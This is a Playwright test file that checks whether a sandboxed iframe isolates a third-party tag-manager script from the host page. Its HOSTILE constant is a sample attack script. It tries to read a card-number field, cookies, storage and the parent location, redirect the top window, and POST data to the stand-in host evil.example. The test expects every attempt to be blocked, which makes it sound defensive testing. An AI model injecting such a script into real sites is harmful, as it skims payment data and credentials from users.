import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, test } from '@playwright/test'
import { TAG_HEADERS, tagDocument } from '../../server/page/tag-page'

/** A page with a card field and the real frame in it. What the tag manager's address gives stands in for a hostile tag. */
const PAGE = `<!doctype html><title>pagina</title><input id="cartao" value="4111111111111111">
<iframe sandbox="allow-scripts" hidden src="/tags/GTM-ABC1.html"></iframe>`

const HOSTILE = `
const tried = {}
const attempt = (name, run) => { try { tried[name] = String(run()) } catch (error) { tried[name] = error.name } }
attempt('document', () => parent.document.getElementById('cartao').value)
attempt('layer', () => parent.dataLayer.length)
attempt('location', () => parent.location.href)
attempt('storage', () => localStorage.length)
attempt('cookie', () => document.cookie)
attempt('origin', () => origin)
attempt('leave', () => { top.location.href = 'https://evil.example/' ; return 'left' })
fetch('/api/categoria?empresaID=1').then(() => { tried.gateway = 'read' }, (error) => { tried.gateway = error.name })
  .then(() => fetch('https://evil.example/', { method: 'POST', body: 'x' }))
  .then(() => { tried.evil = 'sent' }, (error) => { tried.evil = error.name })
  .then(() => parent.postMessage({ tried, layer: window.dataLayer }, '*'))
`

let server: Server
let url: string

test.beforeAll(async () => {
  server = createServer((request, response) => {
    if (request.url === '/tags/GTM-ABC1.html') {
      response.writeHead(200, TAG_HEADERS).end(tagDocument('GTM-ABC1'))
    } else if (request.url === '/') {
      response.writeHead(200, { 'content-type': 'text/html' }).end(PAGE)
    } else response.writeHead(200, { 'content-type': 'application/json' }).end('{}')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/` // it listens on a port
})

test.afterAll(() => server.close())

test('PRI-03: a hostile tag reads neither the page, nor our storage, nor the gateway, and sends nothing elsewhere', async ({
  page,
}) => {
  const asked: string[] = []
  let letGo = () => {}
  const told = new Promise<void>((resolve) => {
    letGo = resolve
  })
  await page.route('https://www.googletagmanager.com/**', async (route) => {
    asked.push(route.request().url())
    await told
    await route.fulfill({ contentType: 'text/javascript', body: HOSTILE })
  })
  await page.route('https://evil.example/**', (route) => {
    asked.push(route.request().url())
    return route.fulfill({ body: '' })
  })
  await page.addInitScript(() => {
    addEventListener('message', ({ data }) => Object.assign(window, { heard: data }))
  })
  await page.goto(url, { waitUntil: 'domcontentloaded' })
  await expect.poll(() => asked.length).toBe(1)
  await page.evaluate(() => {
    const frame = document.querySelector('iframe')
    frame?.contentWindow?.postMessage({ event: 'Lead Enviado', categoria: 'MOTO' }, '*')
    frame?.contentWindow?.postMessage('not an event', '*')
  })
  letGo()
  const heard = await page.waitForFunction(() => Reflect.get(window, 'heard'))
  const { tried, layer } = await heard.jsonValue()

  expect(tried).toEqual({
    document: 'SecurityError',
    layer: 'SecurityError',
    location: 'SecurityError',
    storage: 'SecurityError',
    cookie: 'SecurityError',
    origin: 'null',
    leave: 'SecurityError',
    gateway: 'TypeError',
    evil: 'TypeError',
  })
  expect(layer).toEqual([
    expect.objectContaining({ event: 'gtm.js' }),
    { event: 'Lead Enviado', categoria: 'MOTO' },
  ])
  expect(asked).toEqual(['https://www.googletagmanager.com/gtm.js?id=GTM-ABC1'])
  expect(page.url()).toBe(url)
})
